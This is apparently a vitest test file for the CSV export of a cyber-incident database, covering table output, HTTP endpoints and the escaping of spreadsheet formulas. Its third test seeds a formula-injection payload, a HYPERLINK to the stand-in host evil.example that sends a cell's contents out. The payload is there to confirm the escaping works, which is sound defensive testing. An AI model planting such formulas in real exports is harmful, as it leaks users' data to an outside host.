import { mkdtemp, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { cypher } from '../../src/db/database.js';
import { csvTableNames } from '../../src/export/csv-export.js';
import { readSeedDataset } from '../../src/import/seeds.js';
import { loadTaxonomy } from '../../src/taxonomy/taxonomy.js';
import { runCli } from '../support/cli.js';
import { useSeededApi } from '../support/seeded.js';

const seeds = (await readSeedDataset(loadTaxonomy())).read.records;
const seeded = useSeededApi();
const table = (text: string) => parse<Record<string, string>>(text, { columns: true });

describe('the CSV export', () => {
  it('writes one file per entity and relationship, names on both ends, read back by a CSV parser', async () => {
    const folder = await mkdtemp(path.join(tmpdir(), 'cig-csv-'));
    const done = await runCli(['export', '--format', 'csv', '--out', folder]);
    expect(done.code).toBe(0);
    const read = async (name: string) =>
      table(await readFile(path.join(folder, `${name}.csv`), 'utf8'));
    for (const name of csvTableNames) expect(Array.isArray(await read(name))).toBe(true);

    expect(await read('incidents')).toHaveLength(seeds.incidents.length);
    expect(await read('actors')).toHaveLength(seeds.actors.length);
    const claims = await read('attributions');
    expect(claims).toHaveLength(seeds.incidents.reduce((n, i) => n + i.attributions.length, 0));
    const names = new Map(seeds.actors.map((a) => [a.id, a.name]));
    for (const claim of claims) expect(claim.actor_name).toBe(names.get(claim.actor_id ?? ''));
    const countries = await read('incident_countries');
    expect(countries).toHaveLength(seeds.incidents.reduce((n, i) => n + i.countries.length, 0));
    expect(countries.find((c) => c.country_code === 'UA')?.country_name).toBe('Ukraine');
    const maersk = (await read('incidents')).find((i) => i.id === '2017-06-notpetya-maersk');
    expect(maersk).toMatchObject({
      campaign_id: 'notpetya-2017',
      attack_types: 'WIPER; SUPPLY_CHAIN',
    });
  });

  it('needs a folder, and serves each table over HTTP', async () => {
    const bad = await runCli(['export', '--format', 'csv']);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toContain('--out <dir>');
    const response = await fetch(`${seeded.api.url}/export/csv/actors?actorIds=sandworm`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toContain('text/csv');
    // Sandworm's incidents, and so every actor a claim on them names.
    const named = seeds.incidents
      .filter((i) => i.attributions.some((a) => a.actorId === 'sandworm'))
      .flatMap((i) => i.attributions.map((a) => a.actorId));
    expect(table(await response.text()).map((a) => a.id)).toEqual([...new Set(named)].sort());
    const unknown = await fetch(`${seeded.api.url}/export/csv/nothing`);
    expect(unknown.status).toBe(404);
    expect(await unknown.text()).toContain('incident_sectors');
  });

  it('neutralises text a spreadsheet would run as a formula, and only in CSV', async () => {
    const formulas = [
      '=HYPERLINK("https://evil.example/?d="&A1,"x")',
      '+1',
      '-2',
      '@SUM(A1)',
      '\tx',
      '\rx',
    ];
    await seeded.database.executor().write(
      cypher(
        'test:formulaActors',
        `UNWIND range(0, size($names) - 1) AS n
         CREATE (:Actor {id: 'formula-' + n, name: $names[n], aliases: [$names[n]], type: 'UNKNOWN',
                         description: $names[n]})`,
      ),
      { names: formulas },
    );
    const response = await fetch(`${seeded.api.url}/export/csv/actors`);
    const text = await response.text();
    expect(text).toContain(
      `formula-0,"'=HYPERLINK(""https://evil.example/?d=""&A1,""x"")",UNKNOWN,`,
    );
    const rows = table(text).filter((a) => a.id?.startsWith('formula-'));
    expect(rows.map((a) => [a.name, a.aliases, a.description])).toEqual(
      formulas.map((f) => [`'${f}`, `'${f}`, `'${f}`]),
    );
    // Every cell of every row starts with something a spreadsheet takes as text.
    const cells = parse(text).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    // Other formats carry the names as they are.
    const dataset = (await (await fetch(`${seeded.api.url}/export/json`)).json()) as {
      actors: { id: string; name: string }[];
    };
    expect(dataset.actors.filter((a) => a.id.startsWith('formula-')).map((a) => a.name)).toEqual(
      formulas,
    );
  });
});
